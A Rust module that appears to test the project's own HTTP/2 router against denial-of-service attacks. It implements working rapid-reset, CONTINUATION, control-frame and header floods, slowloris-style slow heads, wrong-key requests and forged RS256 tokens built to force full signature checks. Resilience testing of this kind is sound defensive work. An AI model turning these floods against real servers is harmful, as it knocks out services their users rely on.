//! The attacks. Each opens a connection and sends pieces (frames, requests, heads) until the router closes it or the
//! limit is reached.

use std::future::Future;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::LazyLock;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::cost::TOKEN_ISSUER;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, H2Connection, HEADERS, PING, POST_PSEUDO_HEADERS, PRIORITY,
    RST_STREAM, WINDOW_UPDATE, block, frame, head, settings,
};
use crate::signers::unix_seconds;

/// One kind of attack.
pub struct Attack {
    pub name: &'static str,
    /// Connections a second: a share of the machine that leaves the others theirs.
    pub connections_per_second: u32,
    /// Whether the router cuts a connection off for it; where not, each piece is answered like anybody's.
    pub is_cut_off: bool,
    /// What the good client beside it has: it suffers most from what takes the same way.
    pub good_client_credential: Credential,
    /// What one connection does. Returns how many pieces it got in.
    pub run: fn(SocketAddr) -> Pin<Box<dyn Future<Output = u64>>>,
}

/// What opens an endpoint.
#[derive(Debug, Clone, Copy)]
pub enum Credential {
    Key,
    /// One that was checked before.
    Token,
}

/// More than a flood gets in: the router closes, and what sockets buffer meanwhile is less.
pub const MAX_PIECES: u64 = 2_000_000;

/// How the answer to a bad token begins.
const DENIED_RESPONSE_START: &[u8] = b"HTTP/1.1 401 ";

/// Between two batches of one connection.
const BATCH_PAUSE: Duration = Duration::from_millis(1);

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid reset",
        connections_per_second: 2,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(rapid_reset(to)),
    },
    Attack {
        name: "CONTINUATION, empty",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(continuation(to, 0)),
    },
    Attack {
        name: "CONTINUATION, 4 KB",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(continuation(to, 4_000)),
    },
    Attack {
        name: "SETTINGS",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| flood(to, vec![], settings(&[(3, 100)])),
    },
    Attack {
        name: "PING",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| flood(to, vec![], frame(PING, 0, 0, &[7; 8])),
    },
    Attack {
        name: "PRIORITY",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| flood(to, vec![], frame(PRIORITY, 0, 3, &[0; 5])),
    },
    Attack {
        name: "WINDOW_UPDATE",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| flood(to, vec![], frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
    },
    Attack {
        name: "DATA, empty",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| flood(to, head(1, 0, &[]), frame(DATA, 0, 1, &[])),
    },
    Attack {
        name: "DATA, one byte",
        connections_per_second: 20,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| flood(to, head(1, 0, &[]), frame(DATA, 0, 1, b"x")),
    },
    Attack {
        name: "header flood",
        connections_per_second: 50,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(send_and_wait_for_end(to, &HEADER_FLOOD)),
    },
    Attack {
        name: "garbage",
        connections_per_second: 200,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(send_and_wait_for_end(to, &[0x16; 500])),
    },
    Attack {
        name: "nothing but a connection",
        connections_per_second: 200,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(connect_and_close(to)),
    },
    Attack {
        name: "wrong keys",
        connections_per_second: 5,
        is_cut_off: false,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(wrong_keys(to)),
    },
    Attack {
        name: "slow heads",
        connections_per_second: 250,
        is_cut_off: true,
        good_client_credential: Credential::Key,
        run: |to| Box::pin(slow_head(to)),
    },
    Attack {
        name: "bad RS256 tokens",
        connections_per_second: 50,
        is_cut_off: false,
        good_client_credential: Credential::Token,
        run: |to| Box::pin(bad_tokens(to)),
    },
];

/// Writes `piece` over and over, in batches, and reads what comes, until the router closes.
fn flood(to: SocketAddr, first: Vec<u8>, piece: Vec<u8>) -> Pin<Box<dyn Future<Output = u64>>> {
    Box::pin(async move {
        let mut client = H2Connection::connect(to, &[]).await;
        client.write(&first).await;
        write_batches(&mut client, 50, |_| piece.repeat(50)).await
    })
}

/// Writes batches of `size` pieces until the router closes. Returns how many pieces were taken.
async fn write_batches(client: &mut H2Connection, size: u64, batch: impl Fn(u64) -> Vec<u8>) -> u64 {
    let mut sent = 0;
    while sent < MAX_PIECES && client.stream.write_all(&batch(sent)).await.is_ok() {
        sent += size;
        if std::iter::from_fn(|| client.try_next()).any(|frame| frame.kind == GOAWAY) {
            break;
        }
        // Some tens of thousands a second: a share of the machine that leaves the router and the others theirs.
        tokio::time::sleep(BATCH_PAUSE).await;
    }
    sent
}

async fn rapid_reset(to: SocketAddr) -> u64 {
    let mut client = H2Connection::connect(to, &[]).await;
    let reset = |stream: u32| [head(stream, END_STREAM, &[]), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat();
    // Few at once, so that each is looked at: that is dearer for the router than being cut off at the twenty-first.
    write_batches(&mut client, 2, |sent| (0..2).flat_map(|n| reset(1 + 2 * (sent as u32 + n))).collect()).await
}

async fn continuation(to: SocketAddr, length: usize) -> u64 {
    let mut client = H2Connection::connect(to, &[]).await;
    client.write(&frame(HEADERS, END_STREAM, 1, &block(&POST_PSEUDO_HEADERS))).await;
    let piece = if length == 0 { Vec::new() } else { block(&[("x", &"y".repeat(length))]) };
    let bytes = frame(CONTINUATION, 0, 1, &piece);
    debug_assert_eq!(bytes[4] & END_HEADERS, 0);
    write_batches(&mut client, 10, |_| bytes.repeat(10)).await
}

/// Made once: what it costs the attacker is not to be measured.
static HEADER_FLOOD: LazyLock<Vec<u8>> = LazyLock::new(|| {
    let fields: String = (0..5_000).map(|number| format!("x-{number}: y\r\n")).collect();
    format!("GET / HTTP/1.1\r\nhost: router\r\n{fields}\r\n").into_bytes()
});

/// Says one thing, and waits for the end.
async fn send_and_wait_for_end(to: SocketAddr, bytes: &[u8]) -> u64 {
    let Ok(mut stream) = TcpStream::connect(to).await else { return 0 };
    let _ = stream.write_all(bytes).await;
    let _ = stream.read_to_end(&mut Vec::new()).await;
    1
}

async fn connect_and_close(to: SocketAddr) -> u64 {
    u64::from(TcpStream::connect(to).await.is_ok())
}

/// A hundred requests with a key that is none, one after the other.
async fn wrong_keys(to: SocketAddr) -> u64 {
    let Ok(mut stream) = TcpStream::connect(to).await else { return 0 };
    let request = "POST /api/v1/endpoint/my-endpoint/score HTTP/1.1\r\nhost: router\r\nauthorization: Bearer \
                   wrong-key-0123456789abcdef\r\ncontent-length: 2\r\n\r\n{}";
    let mut answer = vec![0; 4096];
    for _ in 0..100 {
        let asked = stream.write_all(request.as_bytes()).await;
        if asked.is_err() || !stream.read(&mut answer).await.is_ok_and(|read| read > 0) {
            return 0;
        }
    }
    100
}

/// A hundred requests, each with another token that has the right key's name and a signature that is none.
async fn bad_tokens(to: SocketAddr) -> u64 {
    static TOKENS_MADE: AtomicU64 = AtomicU64::new(0);
    const BATCH_SIZE: usize = 10;
    let Ok(mut stream) = TcpStream::connect(to).await else { return 0 };
    let (header, end) = (json!({"alg": "RS256", "kid": "k"}), unix_seconds() + 600);
    let encode = |part: &Value| URL_SAFE_NO_PAD.encode(part.to_string());
    let request = || {
        let number = TOKENS_MADE.fetch_add(1, Ordering::Relaxed);
        let claims = json!({"iss": TOKEN_ISSUER, "aud": "me", "sub": number, "exp": end});
        // Begins with zeros: a number in the key's range, so that the whole check is done.
        let signature = URL_SAFE_NO_PAD.encode([&[0; 8][..], &[number as u8; 248][..]].concat());
        format!(
            "POST /api/v1/endpoint/tokens/score HTTP/1.1\r\nhost: router\r\nauthorization: Bearer {}.{}.{signature}\r\n\
             content-length: 2\r\n\r\n{{}}",
            encode(&header),
            encode(&claims),
        )
    };
    for _ in 0..10 {
        let batch: String = std::iter::repeat_with(request).take(BATCH_SIZE).collect();
        if stream.write_all(batch.as_bytes()).await.is_err() {
            return 0;
        }
        let mut answers = Vec::new();
        while answers.windows(DENIED_RESPONSE_START.len()).filter(|part| part == &DENIED_RESPONSE_START).count()
            < BATCH_SIZE
        {
            if !stream.read_buf(&mut answers).await.is_ok_and(|read| read > 0) {
                return 0;
            }
        }
    }
    100
}

/// A head of which a byte comes now and then, in a task of its own; held until the router ends it.
async fn slow_head(to: SocketAddr) -> u64 {
    tokio::task::spawn_local(async move {
        let Ok(mut stream) = TcpStream::connect(to).await else { return };
        let _ = stream.write_all(b"POST /api/v1/endpoint/my-endpoint/score HTTP/1.1\r\nx: ").await;
        while stream.write_all(b"y").await.is_ok() {
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    });
    1
}
